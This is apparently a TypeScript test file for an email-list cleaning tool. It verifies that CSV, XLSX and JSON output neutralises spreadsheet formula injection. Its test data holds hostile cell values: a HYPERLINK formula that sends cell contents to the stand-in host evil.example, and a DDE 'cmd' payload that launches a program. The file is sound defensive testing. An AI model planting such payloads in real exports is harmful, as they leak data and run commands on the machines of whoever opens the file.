// Formula injection (OWASP "CSV injection"): what the service sends is never written as a formula, in any format; the
// list's own cells stay byte for byte in CSV unless escapeFormulas (--escape-formulas) asks for them to be neutralised.
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import type { InputLayout } from '../../../src/clean/scan/input/index.js';
import type { Verdict } from '../../../src/clean/verdict/verdict.js';
import { writeRows } from '../../../src/clean/write/write-rows.js';
import { sheetCells, workbookParts } from '../../helpers/workbook.js';
import { open, put, tempDir } from '../scan/input/helpers.js';

const temp = tempDir();
afterAll(() => temp.remove());

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"ok")';
/** A service answer whose status word and reason are formulas. */
const answer = (key: string): Verdict => ({
  key,
  status: 'valid',
  valid: true,
  disposable: false,
  validDomain: true,
  reason: '@SUM(1)',
  checkedAt: '2026-01-02T03:04:05.000Z',
  serviceStatus: HOSTILE,
});

const CELLS = [
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '@SUM(1)',
  '-2+3',
  '\t=1',
  '\r=1',
  '\uFF1D1+1',
  '-12.5',
  '+33612345678',
];
const LIST = `email,note\n${CELLS.map((c, i) => `u${i}@example.com,"${c}"`).join('\n')}\n`;

async function write(layout: InputLayout, format: 'csv' | 'json' | 'xlsx', escapeFormulas?: boolean): Promise<Buffer> {
  const stdout = new PassThrough();
  const chunks: Buffer[] = [];
  stdout.on('data', (chunk: Buffer) => chunks.push(chunk));
  await writeRows(layout, answer, { format, stdout, extraColumns: ['email_service_status'], escapeFormulas });
  return Buffer.concat(chunks);
}

describe('formula injection', () => {
  it("CSV: the service's words are neutralised; the list's own cells are kept byte for byte by default", async () => {
    const layout = await open(put(temp.dir, 'list.csv', LIST));
    const text = (await write(layout, 'csv')).toString('utf8');
    const lines = text.split('\n');
    expect(lines.slice(1, -1).map((l) => l.slice(0, l.indexOf(',valid,')))).toEqual(LIST.split('\n').slice(1, -1));
    const rows = parse(text, { columns: true }) as Array<Record<string, string>>;
    expect(rows[0]!.email_service_status).toBe(`'${HOSTILE}`);
    expect(rows[0]!.email_reason).toBe("'@SUM(1)");
    expect(lines[1]).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`);
  });

  it("CSV with escapeFormulas: every cell that would start a formula gets OWASP's quote; plain numbers stay", async () => {
    const layout = await open(put(temp.dir, 'list.csv', LIST));
    const rows = parse((await write(layout, 'csv', true)).toString('utf8'), { columns: true }) as Array<
      Record<string, string>
    >;
    expect(rows.map((r) => r.note)).toEqual([...CELLS.slice(0, 7).map((c) => `'${c}`), '-12.5', '+33612345678']);
  });

  it('XLSX: every text is an inline string, never a formula element, whatever it starts with', async () => {
    const layout = await open(put(temp.dir, 'list.csv', LIST));
    const path = put(temp.dir, 'out.xlsx', await write(layout, 'xlsx'));
    const parts = await workbookParts(path);
    const sheet = parts.get('xl/worksheets/sheet1.xml')!;
    expect(sheet).not.toMatch(/<f[ >]/);
    const rows = sheetCells(sheet);
    const note = rows.slice(1).map((row) => row[1]!);
    expect(note.map((c) => [c.t, c.value])).toEqual(CELLS.map((c) => ['inlineStr', c.replace('\r', '_x000D_')]));
    expect(rows[1]!.find((c) => c.value === HOSTILE)).toMatchObject({ t: 'inlineStr', formula: false });
  });

  it('JSON: strings stay data, as they were', async () => {
    const layout = await open(put(temp.dir, 'list.csv', LIST));
    const rows = JSON.parse((await write(layout, 'json')).toString('utf8')) as Array<Record<string, unknown>>;
    expect(rows.map((r) => r.note)).toEqual(CELLS);
    expect(rows[0]!.email_service_status).toBe(HOSTILE);
  });
});
